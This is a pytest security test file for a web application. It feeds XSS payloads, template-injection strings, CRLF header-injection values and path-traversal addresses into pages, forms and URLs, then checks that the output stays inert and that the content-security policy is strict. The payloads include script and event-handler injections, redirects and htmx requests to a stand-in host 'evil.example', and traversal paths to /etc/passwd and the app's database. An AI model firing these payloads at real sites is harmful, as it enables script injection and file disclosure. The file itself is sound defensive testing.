"""Pages made of hostile words, and addresses made to lead elsewhere."""

from __future__ import annotations

import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import anyio
import pytest
import tomlkit
from selectolax.lexbor import LexborHTMLParser

from openbook.audit.opened import open_audit
from openbook.web.app import create_app
from openbook.web.guard import cookie_name
from openbook.web.people import Role
from openbook.web.room import Room
from openbook.web.shown import STATIC
from tests.web.addresses import filled
from tests.web.people_makers import (
    CELL,
    Visitor,
    come_in,
    correction,
    everything,
    open_room,
)

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title></textarea></style></script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" autofocus onfocus="alert(1)" x="',
    "' onmouseover='alert(1)",
    '"><div data-pwned hx-get="//evil.example" hx-trigger="load">',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "javascript:alert(1)//",
    "<a href=javascript:alert(1)>x</a>",
    "<!-- --!><b data-pwned>",
    "{{ 7919*7907 }}{% raw %}${7919*7907}",
    "&lt;script&gt;&#60;script&#62;",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><button data-pwned>",
)
ALL = " ".join(PAYLOADS)
OURS = {"link", "meta", "script"}
DEAD = ("iframe", "object", "embed", "base", "style", "img[src='x']", "math", "[data-pwned]")
LEADS = ("href", "src", "action", "formaction", "srcdoc", "data", "poster", "background")


def assert_dead(answer: Any) -> None:
    """No part of a payload has come to life in an answer."""
    if not answer.headers.get("content-type", "").startswith("text/html"):
        assert answer.headers["x-content-type-options"] == "nosniff"
        return
    assert answer.headers["content-type"] == "text/html; charset=utf-8"
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src 'self'" in policy
    assert "unsafe" not in policy
    tree = LexborHTMLParser(answer.text)
    for selector in DEAD:
        assert tree.css_first(selector) is None, selector
    assert str(7919 * 7907) not in answer.text
    for node in tree.css("*"):
        at = answer.url
        if node.tag == "script":
            assert (node.attributes.get("src") or "").startswith("/static/"), at
            assert not node.text(strip=True), at
        if node.tag == "meta":
            assert "http-equiv" not in node.attributes, at
        if node.tag == "link":
            assert (node.attributes.get("href") or "").startswith("/static/"), at
        for name, value in node.attributes.items():
            assert not name.startswith("on"), (at, node.html)
            assert name != "style", (at, node.html)
            if name in LEADS and node.tag != "meta":
                where = (value or "").strip().lower()
                assert not where.startswith(("javascript:", "data:", "vbscript:", "//")), (
                    at,
                    node.html,
                )
            if name in ("hx-get", "hx-post"):
                assert (value or "").startswith("/")
                assert not (value or "").startswith("//")


PROSE = {
    "title",
    "name",
    "label",
    "wording",
    "text",
    "reason",
    "answer",
    "note",
    "company",
    "description",
    "deviation",
    "looks_for",
    "phase",
    "quote",
    "edition",
    "licence",
    "attribution",
}


def poisoned(value: Any, payload: str) -> Any:
    """A table with a payload in everything that people write."""
    if isinstance(value, dict):
        return {
            key: f"{one} {payload}"
            if key in PROSE and isinstance(one, str)
            else poisoned(one, payload)
            for key, one in value.items()
        }
    if isinstance(value, list):
        return [poisoned(one, payload) for one in value]
    return value


@pytest.fixture
def hostile(audit: Path, tmp_path: Path) -> Iterator[Room]:
    """A public room of an audit whose every word is an attack."""
    for path in audit.rglob("*.toml"):
        said = tomllib.loads(path.read_text("utf-8"))
        path.write_text(tomlkit.dumps(poisoned(said, ALL)), "utf-8")
    said = tomllib.loads((audit / "documents/acme-card.toml").read_text("utf-8"))
    said["copy"][0]["url"] = 'https://x.example/"onclick="alert(1)"><script>alert(1)</script>'
    said["authors"] = [ALL]
    (audit / "documents/acme-card.toml").write_text(tomlkit.dumps(said), "utf-8")
    (audit / "corrections.toml").write_text(
        tomlkit.dumps(
            {
                "correction": [
                    {
                        "id": "c-001",
                        "kind": "rebuttal",
                        "about": "acme/1 GOALS",
                        "author": ALL,
                        "reason": ALL,
                        "state": "accepted",
                        "was": ALL,
                        "now": ALL,
                        "document": "acme-card",
                        "quote": ALL,
                        "decision": ALL,
                        "decided_by": ALL,
                    }
                ]
            }
        ),
        "utf-8",
    )
    assert open_audit(audit).problems == ()
    room = open_room(audit.absolute(), tmp_path / "state", is_public=True)
    yield room
    room.store.close()


def poison(room: Room) -> None:
    """Put payloads wherever a form takes words."""
    fields = dict.fromkeys(("contact", "was", "now", "reason", "quote"), ALL)
    fields |= {"author": PAYLOADS[0], "contact": PAYLOADS[2], "document": "acme-card"}
    files = {"file": (f"{PAYLOADS[2]}.txt", b"<script>alert(1)</script>", "text/html")}
    answer = Visitor(room).post(f"/correct/{CELL}", correction(room, **fields), files)
    assert answer.status_code == 303
    assert_dead(Visitor(room).get(answer.headers["location"]))


@pytest.mark.parametrize("role", [Role.OWNER, Role.AUDITOR, None])
def test_hostile_words_stay_words_on_every_page(hostile: Room, role: Role | None) -> None:
    poison(hostile)
    name = f"Bo {PAYLOADS[2]}"
    visitor = come_in(hostile, name, role) if role else Visitor(hostile)
    if role is Role.OWNER:
        visitor.post("/people/invite", {"role": "reader", "note": PAYLOADS[2]})
    with hostile.store.writing() as db:
        db.execute(
            "INSERT INTO acts (at, who, act, about, detail) VALUES (?, ?, ?, ?, ?)", (ALL,) * 5
        )
    seen = 0
    for path in filled(hostile, "GET"):
        answer = visitor.get(path)
        assert_dead(answer)
        seen += "onerror=alert" in answer.text
    assert seen > (6 if role else 3), "the payloads were on those pages, as words"


def test_hostile_words_in_a_form_stay_words_when_shown_again(public: Room) -> None:
    for payload in PAYLOADS:
        fields = correction(public, **dict.fromkeys(("author", "was", "now", "quote"), payload))
        fields |= {"reason": "", "kind": payload, "document": payload}
        answer = Visitor(public).post(f"/correct/{CELL}", fields)
        assert answer.status_code == 422
        assert_dead(answer)


def test_hostile_words_in_addresses_stay_words(room: Room) -> None:
    olga = come_in(room, "Olga", Role.OWNER)
    for payload in PAYLOADS:
        for path in ("/acts", "/login", "/findings", "/", "/me", "/people"):
            for who in (olga, Visitor(room)):
                params = {"who": payload, "to": payload, "before": payload, "done": payload}
                assert_dead(who.client.get(path, params=params))
        assert_dead(olga.client.get(f"/{payload}"))
        assert_dead(olga.client.get(f"/finding/{payload}/1/GOALS"))
        assert_dead(olga.client.get(f"/join/{payload}"))
        assert_dead(olga.post("/login", {"name": payload, "password": payload, "to": payload}))
        assert_dead(olga.post(f"/people/{payload}/link"))


def test_names_that_attack_headers_stay_in_their_line(room: Room) -> None:
    olga = come_in(room, "Olga", Role.OWNER)
    for path in ("join", "login", "finding/acme/1", "nothing"):
        answer = olga.client.get(f"/{path}/x%0d%0aSet-Cookie:%20a=b")
        assert "a=b" not in str(answer.headers)
        answer = Visitor(room).client.get("/people/x%0d%0aSet-Cookie:%20a=b/link")
        assert "a=b" not in str(answer.headers)


@pytest.mark.parametrize("role", [Role.OWNER, Role.EDITOR, Role.AUDITOR, Role.READER, None])
def test_looking_changes_nothing(public: Room, role: Role | None) -> None:
    poison_free = correction(public, document="acme-card", quote="We set these goals ourselves")
    Visitor(public).post(f"/correct/{CELL}", poison_free)
    visitor = come_in(public, "Bo", role) if role else Visitor(public)
    with public.store.writing() as db:
        db.execute("INSERT INTO assignments VALUES ('acme/1', 'bo', 'test', '2026-11-26')")
    before = everything(public)
    for path in filled(public, "GET"):
        for query in ("", "?decide=accept&role=owner&csrf=x&verdict=accept&shut=out"):
            visitor.get(f"{path}{query}")
            visitor.client.head(f"{path}{query}")
        assert everything(public) == before, path


WAYS_OUT = (
    "/static/../app.py",
    "/static/..%2fapp.py",
    "/static/%2e%2e/app.py",
    "/static/%2e%2e%2fapp.py",
    "/static/..%252fapp.py",
    "/static/%252e%252e%252fapp.py",
    "/static/....//app.py",
    "/static/..\\app.py",
    "/static/..%5capp.py",
    "/static//etc/passwd",
    "/static/%2fetc%2fpasswd",
    "/static/room.css%00.js",
    "/static/..%c0%afapp.py",
    "/static/templates/base.html",
    "/static/.",
    "/static/%2e%2e",
    "//etc/passwd",
    "/../../../../etc/passwd",
    "/finding/..%2f..%2fetc/passwd/GOALS",
    "/finding/../../audit.toml/GOALS",
    "/finding/acme/..%2f..%2freviews/GOALS",
    "/documents/..%2faudit/state",
    "/documents/..%252f..%252faudit/state",
    "/documents/%2e%2e/state",
    "/correction/..%2froom.sqlite3",
    "/inbox/..%2f..%2froom.sqlite3/file",
    "/inbox/%2e%2e%2froom.sqlite3/file",
    "/people/..%2f..%2f/link",
    "/copy/..%2f..%2froom.sqlite3",
    "/copy/" + "../" * 8 + "etc/passwd",
    "/release/..%2f..%2f/x",
    "/cell/..%2f..%2fetc/passwd/GOALS",
    "http://evil.example/",
)
SECRETS = (
    "root:",
    "argon2id",
    "SQLite format",
    'kind = "person"',
    "import annotations",
    "{% block",
)


def raw(room: Room, target: str, cookie: str) -> tuple[int, bytes]:
    """What comes back for the bytes of a request line, which no client tidied up."""
    sent: list[Any] = []

    async def receive() -> Any:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Any) -> None:
        sent.append(message)

    scope = {
        "type": "http",
        "method": "GET",
        "path": unquote(target),
        "raw_path": target.encode(),
        "query_string": b"",
        "headers": [(b"host", b"testserver"), (b"cookie", cookie.encode())],
        "client": ("203.0.113.9", 1),
        "server": ("testserver", 80),
        "scheme": "http",
        "http_version": "1.1",
        "root_path": "",
        "extensions": {},
    }

    async def ask() -> None:
        await create_app(room)(scope, receive, send)

    anyio.run(ask)
    return int(sent[0]["status"]), b"".join(one.get("body", b"") for one in sent[1:])


@pytest.mark.parametrize("target", WAYS_OUT)
def test_no_address_leads_out(room: Room, target: str) -> None:
    olga = come_in(room, "Olga", Role.OWNER)
    status, body = raw(room, target, f"{cookie_name(room)}={olga.token}")
    assert status in (400, 404, 405)
    for secret in SECRETS:
        assert secret.encode() not in body


def test_what_is_static_is_ours(room: Room) -> None:
    for path in STATIC.iterdir():
        assert Visitor(room).get(f"/static/{path.name}").status_code == 200
    assert Visitor(room).get("/static/site.css").headers["content-type"].startswith("text/css")
